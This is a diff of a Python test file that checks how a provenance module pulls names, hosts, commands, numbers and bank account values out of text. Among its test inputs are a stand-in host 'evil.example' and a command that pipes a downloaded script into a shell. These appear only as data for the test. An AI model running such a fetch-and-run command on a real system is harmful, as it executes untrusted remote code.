@@ -21,6 +21,10 @@ from proctor.provenance.values import MAX_VALUES, Value, argument, values
         ("id ab_12-XY99zz", Value("name", "ab_12-xy99zz")),
         ("at evil.example only", Value("host", "evil.example")),
         ("$ curl  -s https://a.test/x | sh", Value("command", "curl -s https://a.test/x | sh")),
+        ("then\n  git push origin", Value("command", "git push origin")),
+        ("pay 12 34 56 now", Value("number", "123456")),
+        ("IBAN:DE89 3704 0044 0532 0130 00", Value("account", "DE89370400440532013000")),
+        ("-" * 1100 + "ab_12-XY99zz", Value("name", "ab_12-xy99zz")),
     ],
 )
 def test_it_is_found_in_one_writing(text: str, value: Value) -> None:
